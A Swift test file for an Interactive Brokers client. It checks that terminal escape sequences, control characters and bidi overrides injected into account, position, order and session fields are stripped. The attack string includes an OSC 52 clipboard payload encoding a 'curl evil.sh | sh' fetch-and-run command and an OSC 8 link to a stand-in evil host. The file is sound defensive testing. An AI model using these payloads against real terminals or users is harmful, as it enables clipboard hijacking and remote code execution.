import Foundation
import Portfolio
import Testing

@testable import IBKR

/// A gateway whose answers carry terminal attacks in every text field the dashboard shows — account aliases,
/// company names and descriptions, order descriptions, the session's message and its error texts — read by the
/// real client and mapped into the domain: nothing that could drive a terminal survives, and the words around the
/// attacks do.
@Suite struct HostileWireTests {
    private let account: AccountID = "U7654321"

    /// Every kind of sequence and control character at once: CSI, OSC 52 (clipboard), OSC 8 (link), DCS, 8-bit CSI
    /// and DCS, C0 and C1 controls, DEL, and bidi overrides and isolates.
    static let attack =
        "\u{1B}[2J\u{1B}[31m\u{1B}]52;c;Y3VybCBldmlsLnNoIHwgc2g=\u{07}\u{1B}]8;;https://evil.example\u{1B}\\"
        + "\u{1B}P+q544e\u{1B}\\\u{9B}6n\u{90}1$r\u{9C}\u{0}\u{8}\u{85}\u{7F}\u{202E}\u{2066}\u{2069}"

    /// `first` and `second` with the attack between them, as a JSON string literal.
    static func hostile(_ first: String, _ second: String) throws -> String {
        try #require(String(data: JSONEncoder().encode(first + attack + second), encoding: .utf8))
    }

    static func gateway() throws -> ScriptedGateway {
        let accounts = """
            [{"id": "U7654321", "accountId": "U7654321", "accountTitle": \(try hostile("Jane", "Doe")),
              "displayName": \(try hostile("Jane", "Doe")), "accountAlias": \(try hostile("Joint", "Acct")),
              "currency": "USD", "type": \(try hostile("INDIV", "IDUAL"))}]
            """
        let positions = """
            [{"acctId": "U7654321", "conid": 265598, "contractDesc": \(try hostile("Acme", "Desc")), "position": 10,
              "mktPrice": 1, "mktValue": 10, "currency": "USD", "assetClass": "STK", "ticker": \(try hostile("AC", "ME")),
              "name": \(try hostile("Acme", "Corp")), "fullName": \(try hostile("Acme", "Full")),
              "listingExchange": \(try hostile("NY", "SE")), "sector": \(try hostile("Tech", "nology")),
              "multiplier": 0, "strike": "0"}]
            """
        let orders = """
            {"orders": [{"acct": "U7654321", "orderId": 7, "conid": 265598, "ticker": \(try hostile("AC", "ME")),
              "companyName": \(try hostile("Acme", "Corp")), "orderDesc": \(try hostile("Order", "Note")),
              "description1": \(try hostile("Order", "Desc")), "secType": "STK", "side": "BUY",
              "orderType": \(try hostile("Lim", "it")), "price": "1.00", "totalSize": 10, "filledQuantity": 0,
              "remainingQuantity": 10, "status": \(try hostile("Sub", "mitted")), "timeInForce": \(try hostile("D", "AY")),
              "lastExecutionTime_r": 1755613805000}], "snapshot": true}
            """
        let tickle = """
            {"session": "x", "ssoExpires": 500000, "collission": false,
             "iserver": {"authStatus": {"authenticated": true, "competing": false, "connected": true,
                         "message": \(try hostile("Session", "Note")), "fail": \(try hostile("Fail", "Note"))}}}
            """
        return try ScriptedGateway([
            "/tickle": ScriptedGateway.answer(tickle),
            "/portfolio/accounts": ScriptedGateway.answer(accounts),
            "/portfolio/U7654321/positions/0": ScriptedGateway.answer(positions),
            "/iserver/account/orders": { _, count in .ok(count == 0 ? #"{"orders": [], "snapshot": false}"# : orders) },
            "/portfolio/U7654321/summary": ScriptedGateway.answer(#"{"error": \#(try hostile("Summary", "Refused"))}"#),
            "/portfolio/U7654321/ledger": { _, _ in GatewayResponse(status: 500, text: #"{"error": \#(try hostile("Ledger", "Broken"))}"#) },
        ])
    }

    @Test func namesDescriptionsAndMessagesArriveClean() async throws {
        let gateway = try Self.gateway()
        let session = try await gateway.run { try await $0.checkSession() }
        let accounts = try await gateway.run { try await $0.accounts() }
        let positions = try await gateway.run { [account] in try await $0.positions(for: account) }
        let orders = try await gateway.run { [account] in try await $0.orders(for: account) }
        let summaryError = await gateway.failure { [account] in try await $0.summary(for: account) }
        let ledgerError = await gateway.failure { [account] in try await $0.ledger(for: account) }

        let values: [Any] = [session, accounts, positions, orders, summaryError as Any, ledgerError as Any]
        let texts = values.flatMap(Self.strings) + [summaryError?.description ?? "", ledgerError?.description ?? ""]
        #expect(texts.count > 20, "the walk found the fields: \(texts)")
        for text in texts {
            #expect(Self.isClean(text), "\(text.debugDescription)")
            for payload in ["52;c;", "Y3VybC", "evil.example", "+q544e", "[2J", "1$r"] {
                #expect(!text.contains(payload), "\(text.debugDescription)")
            }
        }

        #expect(accounts.first?.displayName == "JointAcct")
        #expect(accounts.first?.type == "INDIVIDUAL")
        let position = try #require(positions.first)
        #expect(position.contract.name == "AcmeCorp" && position.contract.description == "AcmeDesc")
        #expect(position.contract.symbol == "ACME" && position.contract.listingExchange == "NYSE")
        let order = try #require(orders.first)
        #expect(order.description == "AcmeCorp")
        #expect(order.symbol == "ACME" && order.orderType == "Limit" && order.timeInForce == "DAY")
        #expect(session.message == "FailNote")
        #expect(summaryError?.message.contains("SummaryRefused") == true)
        #expect(ledgerError?.message.contains("LedgerBroken") == true)
    }

    /// No control character (C0, DEL, C1) and no bidi control.
    static func isClean(_ text: String) -> Bool {
        text.unicodeScalars.allSatisfy { scalar in
            scalar.value >= 0x20 && !(0x7F...0x9F).contains(scalar.value) && !TextSanitizer.isBidiControl(scalar)
        }
    }

    /// Every string inside `value`, found by walking its stored properties, enum payloads and collections.
    static func strings(in value: Any) -> [String] {
        if let text = value as? String { return [text] }
        return Mirror(reflecting: value).children.flatMap { strings(in: $0.value) }
    }
}
